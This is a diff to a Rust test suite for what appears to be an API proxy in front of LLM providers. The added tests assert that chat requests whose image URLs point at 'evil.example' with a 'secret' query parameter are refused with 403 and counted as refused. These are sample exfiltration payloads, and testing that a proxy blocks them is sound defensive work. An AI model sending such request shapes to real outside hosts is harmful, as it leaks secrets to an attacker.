@@ -162,6 +162,11 @@ async fn openai_gets_a_bearer_key_and_settles_on_prompt_and_completion_tokens() 
     search["web_search_options"] = json!({});
     let (status, _) = post(&f, "/v1/chat/completions", "", &search).await;
     assert_eq!(status, 403);
+    let mut image = ask("extra-model", 5);
+    image["messages"][0]["content"] = json!([{"type": "image_url",
+        "image_url": {"url": "https://evil.example/?secret=1"}}]);
+    let (status, _) = post(&f, "/v1/chat/completions", "", &image).await;
+    assert_eq!(status, 403);
     let mut tools = ask("extra-model", 5);
     tools["tools"] = json!([{"type": "function", "function": {"name": "read_file"}}]);
     f.upstream.push(Reply::text("ok").usage(1, 1));
@@ -175,7 +180,7 @@ async fn openai_gets_a_bearer_key_and_settles_on_prompt_and_completion_tokens() 
         (report.requests, report.input_tokens, report.output_tokens),
         (2, 41, 10)
     );
-    assert_eq!(report.refused, 2);
+    assert_eq!(report.refused, 3);
 }
 
 #[tokio::test]
@@ -205,6 +210,13 @@ async fn hostile_shapes_are_refused_recorded_and_never_forwarded() {
             "/v1/messages",
             json!({"model": "host-model", "max_tokens": 5, "messages": [],
                 "mcp_servers": [{"type": "url", "url": "https://evil.example/mcp"}]}),
+            403,
+        ),
+        (
+            "/v1/messages",
+            json!({"model": "host-model", "max_tokens": 5, "messages": [{"role": "user",
+                "content": [{"type": "image", "source": {"type": "url",
+                    "url": "https://evil.example/?secret=1"}}]}]}),
             403,
         ),
         ("/v1/messages", big, 413),
